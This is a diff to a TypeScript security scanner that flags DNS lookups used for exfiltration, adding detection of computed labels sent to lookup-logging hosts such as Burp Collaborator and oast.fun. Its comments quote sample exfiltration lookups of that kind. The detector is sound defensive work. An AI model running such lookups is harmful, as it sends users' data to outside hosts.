@@ -3,12 +3,23 @@
 // `Resolve-DnsName`, `gethostbyname`, `dns.resolve`, a DNS tool's `name`) whose name expands a
 // secret-holding variable, a secret file or an environment secret read in code, or holds a live
 // token or key written out, is exfiltration. Ordinary names (`api.github.com`, `_dmarc.acme.com`)
-// and a machine's own name are lookups.
+// and a machine's own name are lookups. Labels computed by the line (`$b.x.oast.fun`) under a host
+// that logs every lookup (an out-of-band test host, a request catcher) are exfiltration too.
 
 import type { Findings } from './findings.ts';
 import type { PayloadFields } from './payload-fields.ts';
 import { secretValueIn } from './secret-values.ts';
 import { runsText } from './run-keys.ts';
+import { foreignHost } from './foreign-destinations.ts';
+
+/** Why a name in a lookup's text sits under a host that logs what is asked of it (an out-of-band test host, a catcher, a tunnel), or undefined. */
+function loggingDomainIn(text: string): string | undefined {
+  for (const name of text.matchAll(/[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+/g)) {
+    const why = foreignHost(name[0]);
+    if (why !== undefined && why !== 'bare public IP address') return why;
+  }
+  return undefined;
+}
 
 /** A lookup in a shell or PowerShell line, and the rest of its statement (`host` only where a command starts: `mysql -h host` is no lookup). */
 const SHELL_LOOKUP =
@@ -39,6 +50,12 @@ export function assessDnsLabelSecrets(toolWords: readonly string[], fields: Payl
       for (const match of text.matchAll(pattern)) {
         if (SECRET_SOURCE.test(match[1]) || secretValueIn(match[1]) !== undefined) {
           findings.add('critical', 'exfiltration: a DNS lookup carries a secret in the name it asks for');
+          return;
+        }
+        // `Resolve-DnsName "$b.d.burpcollaborator.net"`: labels computed on the spot under a host that exists to log lookups.
+        const catcher = /[$`]/.test(match[1]) ? loggingDomainIn(match[1]) : undefined;
+        if (catcher !== undefined) {
+          findings.add('critical', `exfiltration: a DNS lookup sends computed labels to a host that logs lookups (${catcher})`);
           return;
         }
       }
